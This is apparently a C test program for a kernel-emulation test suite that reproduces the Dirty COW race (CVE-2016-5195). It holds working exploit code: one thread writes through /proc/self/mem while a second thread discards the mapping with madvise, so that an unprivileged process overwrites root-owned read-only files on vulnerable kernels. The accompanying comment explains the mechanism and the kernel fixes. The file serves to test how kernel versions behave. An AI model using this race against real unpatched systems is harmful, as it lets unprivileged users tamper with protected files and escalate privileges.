/*
 * Dirty COW (CVE-2016-5195), kernel-semantics §4g, run as two real threads of an unprivileged
 * process (userspace-api §6.1 for /proc/self/mem).
 *
 * Root creates two 0444 files, one in /dev/shm (tmpfs natively and in PinLab), one in the working
 * directory (ext4), and forks a child that drops to uid/gid 1000 (setgid + setuid; setuid makes
 * the process non-dumpable, which would give /proc/self/mem to root, so PR_SET_DUMPABLE makes it
 * the user's again). The child cannot open a file for writing (EACCES), holds read-only
 * descriptors (the ext4 one opened before setuid: natively the working directory is not
 * searchable by uid 1000), maps each file MAP_PRIVATE|PROT_READ (a private mapping is VM_MAYWRITE
 * whatever the open mode) and, for each, runs
 *   thread A: lseek + write("ATTACKER") on /proc/self/mem at the mapping, N times (a short
 *             busy loop of varying length between writes shifts where its time slices end);
 *   thread B: madvise(MADV_DONTNEED) on the mapping until A is done.
 * A's write is a FOLL_FORCE|FOLL_WRITE GUP: the write fault COWs a private anon copy. Before 4.9
 * faultin_page then dropped FOLL_WRITE; if B zaps the copy at __get_user_pages's cond_resched()
 * before the retry, the retried lookup (now a read) maps the page-cache page and A writes the
 * attacker's bytes into the root-owned file. 4.9 ("mm: remove gup_flags FOLL_WRITE games from
 * __get_user_pages()", 19be0eaffa3a) keeps FOLL_WRITE and sets FOLL_COW; 6.0 (5535be309971)
 * requires an exclusive anon page: the write always lands in a private copy.
 * The parent (root) then reads each file with read() (the page cache, where the write lands and
 * which writeback would put on disk): natively (6.18) and in PinLab at 4.19+ both are unchanged;
 * at 3.2 and 4.4 (dirtycow_race.3.2.expected, .4.4.expected) both hold ATTACKER.
 * Every write to /proc/self/mem succeeds at every version (the count is printed).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <stdint.h>
#include <unistd.h>
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>

#define N 500
static char *map;
static int memfd;
static volatile int done;
static const char *content = "root-owned content, do not change\n";

static void *writer(void *arg) {
  long ok = 0;
  for (int i = 0; i < N; i++) {
    for (volatile int j = 0; j < i % 61; j++) { }   /* vary the timing, as exploits do */
    lseek(memfd, (off_t)(uintptr_t)map, SEEK_SET);
    if (write(memfd, "ATTACKER", 8) == 8) ok++;
  }
  done = 1;
  return (void *)ok;
}

static void *zapper(void *arg) {
  while (!done) madvise(map, 4096, MADV_DONTNEED);
  return 0;
}

static void *attack(int ro) {
  map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, ro, 0);
  if (map == MAP_FAILED) { printf("child: mmap: %s\n", strerror(errno)); _exit(1); }
  done = 0;
  pthread_t a, b;
  pthread_create(&a, 0, writer, 0);
  pthread_create(&b, 0, zapper, 0);
  void *ok;
  pthread_join(a, &ok);
  pthread_join(b, 0);
  munmap(map, 4096);
  return ok;
}

static void check(const char *what, const char *path) {
  char buf[64] = { 0 };
  int fd = open(path, O_RDONLY);
  long n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n == (long)strlen(content) && memcmp(buf, content, n) == 0) printf("parent: %s file unchanged\n", what);
  else printf("parent: %s file CHANGED: %.*s", what, (int)n, buf);
  unlink(path);
}

static void create(const char *path) {
  int fd = open(path, O_CREAT | O_EXCL | O_WRONLY, 0444);
  if (fd < 0) { printf("create %s: %s\n", path, strerror(errno)); _exit(1); }
  write(fd, content, strlen(content));
  close(fd);
}

int main(void) {
  char shm[64];
  snprintf(shm, sizeof shm, "/dev/shm/pinlab-dirtycow-%d", (int)getpid());
  const char *ext4 = "dirtycow.dat";
  create(shm);
  create(ext4);

  pid_t pid = fork();
  if (pid == 0) {
    /* the working directory is not searchable by uid 1000 natively: open the ext4 file first */
    int ro_ext4 = open(ext4, O_RDONLY);
    if (setgid(1000) != 0 || setuid(1000) != 0) { printf("setuid: %s\n", strerror(errno)); _exit(1); }
    printf("child: uid %d, dumpable after setuid %d\n", (int)getuid(), prctl(PR_GET_DUMPABLE));
    prctl(PR_SET_DUMPABLE, 1);
    int w = open(shm, O_WRONLY);
    printf("child: open for writing: %s\n", w < 0 ? strerror(errno) : "allowed?!");
    int ro_shm = open(shm, O_RDONLY);
    memfd = open("/proc/self/mem", O_RDWR);
    if (ro_shm < 0 || ro_ext4 < 0 || memfd < 0) { printf("child setup: %s\n", strerror(errno)); _exit(1); }
    printf("child: tmpfs: %ld of %d writes to /proc/self/mem succeeded\n", (long)attack(ro_shm), N);
    printf("child: ext4: %ld of %d writes to /proc/self/mem succeeded\n", (long)attack(ro_ext4), N);
    fflush(stdout);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, 0);
  check("tmpfs", shm);
  check("ext4", ext4);
  return 0;
}
